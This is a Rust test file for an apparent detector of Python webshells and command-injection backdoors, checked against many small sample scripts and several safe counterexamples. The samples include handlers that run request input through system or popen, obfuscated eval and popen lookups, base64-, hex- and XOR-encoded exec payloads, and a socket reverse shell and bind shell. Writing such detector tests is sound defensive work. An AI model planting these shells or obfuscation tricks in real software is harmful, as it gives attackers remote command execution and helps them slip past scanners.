use crate::Language::Python;
use crate::language::flow::tests::{
    assert_found, assert_silent, base64, codes, filled, hex, judged,
};

#[test]
fn cgi_programs_are_found() {
    assert_found(
        Python,
        &[
            "import cgi, os\nform = cgi.FieldStorage()\nprint(‹popen›(form.getvalue('c')).read())\n",
            "import cgi, ‹subprocess› as s\nf = cgi.FieldStorage()\ntry:\n  c = f['c'].value\nexcept KeyError:\n  c = 'id'\n\
             p = s.Popen(c, shell=True)\n",
            "import os, ‹subprocess› as s\nc = os.environ['‹query›']\ns.Popen(['/bin/bash', '-c', c])\n",
            "import sys, os\nprint('Content-Type: text/html\\n')\n‹system›(sys.stdin.read())\n",
        ],
    );
}

#[test]
fn handlers_of_frameworks_are_found() {
    assert_found(
        Python,
        &[
            "from flask import request\nimport os\n@app.route('/')\ndef i():\n  return ‹popen›(request.args['c']).read()\n",
            "import os\n@app.route('/<p>')\ndef i(p):\n  ‹system›(p)\n",
            "import os\ndef view(request):\n  c = request.POST.get('c')\n  if c:\n    return R(‹popen›(c + ' 2>&1'))\n",
            "import ‹subprocess›\n@app.get('/x')\nasync def x(cmd: str):\n  return ‹subprocess›.run(cmd, shell=True)\n",
            "import os, tornado.web\nclass H(tornado.web.RequestHandler):\n  def get(self):\n    \
             self.write(‹popen›(self.get_argument('c')).read())\n",
            "import os\nclass H(BaseHTTPRequestHandler):\n  def do_POST(self):\n    self.run(self.rfile.read(9))\n  \
             def run(self, data):\n    ‹system›(data)\n",
            "import os\ndef app(environ, start_response):\n  q = parse_qs(environ.get('‹query›'))\n  ‹system›(q['c'][0])\n",
            "import ‹subprocess›\nasync def h(websocket):\n  async for m in websocket:\n    ‹subprocess›.getoutput(m)\n",
        ],
    );
}

#[test]
fn ways_through_a_script_are_followed() {
    assert_found(
        Python,
        &[
            "import os\nfrom flask import request\nclass R:\n  def __init__(self, c):\n    self.c = c\n  def go(self):\n    \
             ‹system›(self.c)\ndef v():\n  R(request.form['a']).go()\n",
            "import os, threading\nfrom flask import request\ndef v():\n  \
             threading.Thread(target=‹system›, args=(request.args.get('c'),)).start()\n",
            "import os\nfrom flask import request\nT = {'a': os.path.join, 'b': ‹system›}\ndef v():\n  \
             T[request.args['k']](request.args['c'])\n",
            "import ‹subprocess› as s\nfrom flask import request\ndef v():\n  p = s.Popen(['/bin/sh'], stdin=s.PIPE)\n  \
             p.communicate(request.data)\n",
            "import os\nfrom flask import request\ndef v():\n  os.popen(f\"timeout 5 bash -c '{request.args['c']}' 2>&1\")\n",
            "class H(SimpleHTTPRequestHandler):\n  def do_POST(self):\n    b = json.loads(self.rfile.read(9))\n    \
             getattr(self, 'do_' + b['a'])(b['d'])\n  def do_x(self, d):\n    import os\n    ‹system›(d)\n",
        ],
    );
}

#[test]
fn hidden_names_are_uncovered() {
    assert_found(
        Python,
        &[
            "import os\nfrom flask import request\ngetattr(os, 'po' + 'pen')(request.args['c'])\n",
            "from flask import request\ngetattr(__builtins__, 'lave'[::-1])(request.args['c'])\n",
            "from flask import request\n__import__(''.join(map(chr, [111, 115]))).__dict__['sys' 'tem'](request.data)\n",
            "from flask import request\ne = ''.join([chr(x ^ 7) for x in [98, 113, 102, 107]])\n\
             __builtins__.__dict__[e](request.data)\n",
            "from flask import request\no = ().__class__.__base__.__subclasses__()[9]\n\
             o.__init__.__globals__['popen'](request.data)\n",
            "from flask import request\na = request.args\ngetattr(__import__(a['m']), a['f'])(a['x'])\n",
        ],
    );
}

#[test]
fn hidden_code_is_opened() {
    let plain = filled("import os\nfrom flask import request\n‹system›(request.args['c'])\n");
    let run = filled("‹exec›");
    let once = format!(
        "import base64\n{run}(base64.b64decode('{}'))\n",
        base64(&plain)
    );
    let twice = format!(
        "import base64\n{run}(base64.b64decode('{}'))\n",
        base64(&once)
    );
    let scripts = [
        once,
        twice,
        format!("{run}(bytes.fromhex('{}').decode())\n", hex(&plain)),
        format!("{run}(bytes([{}]))\n", codes(&plain, |byte| byte)),
        format!(
            "{run}(''.join(chr(int(c)) for c in '{}'.split(',')))\n",
            codes(&plain, |byte| byte)
        ),
        format!(
            "s = ''\nfor i in [{}]:\n  s += chr(i ^ 23)\n{run}(s)\n",
            codes(&plain, |byte| byte ^ 23)
        ),
        format!(
            "s = []\nfor i in [{}]:\n  s.append(chr(i))\n{run}(''.join(s))\n",
            codes(&plain, |byte| byte)
        ),
    ];
    for script in scripts {
        let verdict = judged(Python, &script);
        assert!(verdict.score > 90, "{script} {verdict:?}");
        assert!(
            verdict
                .reasons
                .iter()
                .all(|reason| reason.offset < script.len())
        );
    }
}

#[test]
fn files_and_shells_of_connections_are_found() {
    assert_found(
        Python,
        &[
            "import cgi, os\nf = cgi.FieldStorage()\np = f.getvalue('p')\nif f.getvalue('a') == 'l':\n  os.listdir(p)\n\
             elif f.getvalue('a') == 'r':\n  os.remove(p)\nelse:\n  open(p, 'w').write(f.getvalue('d'))\n",
            "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
            "import socket, os\ns = socket.socket()\nc, a = s.accept()\nwhile 1:\n  ‹system›(c.recv(1024))\n",
        ],
    );
}

#[test]
fn ordinary_scripts_are_silent() {
    assert_silent(
        Python,
        &[
            // What is quoted, listed or a number runs nothing.
            "import os, shlex\nfrom flask import request\ndef v():\n  ‹system›(shlex.quote(request.args['c']))\n",
            "import ‹subprocess› as s\nfrom flask import request\ndef v():\n  s.run(['ping', '-c', '1', request.args['h']])\n",
            "import os\nfrom flask import request\ndef v():\n  ‹system›('kill %d' % int(request.args['p']))\n",
            "import os\nfrom flask import request\ndef v():\n  c = request.args['c']\n  if c not in ALLOWED:\n    return ''\n  \
             ‹system›(c)\n",
            "import os\nfrom flask import request\nC = {'a': 'ls', 'b': 'id'}\ndef v():\n  ‹system›(C[request.args['c']])\n",
            "import os\nfrom flask import request\ndef v():\n  c = request.args['c']\n  if c == 'uptime':\n    ‹system›(c)\n",
            "import os\n@app.route('/<int:n>')\ndef v(n: int):\n  ‹system›(n)\n",
            // A vulnerable argument is a fault, not a webshell.
            "import os\nfrom flask import request\ndef v():\n  ‹system›('ping ' + request.args['h'])\n",
            // An upload into the application's folder.
            "import os\nfrom flask import request\ndef v():\n  f = request.files['f']\n  f.save(os.path.join(UP, f.filename))\n",
            // Hidden code that does nothing of the kind.
            "import base64\n‹exec›(base64.b64decode('cHJpbnQoMSk='))\n",
            "import os\n‹system›('ls')\n",
            "import os, sys\n‹system›(sys.argv[1])\n",
        ],
    );
}
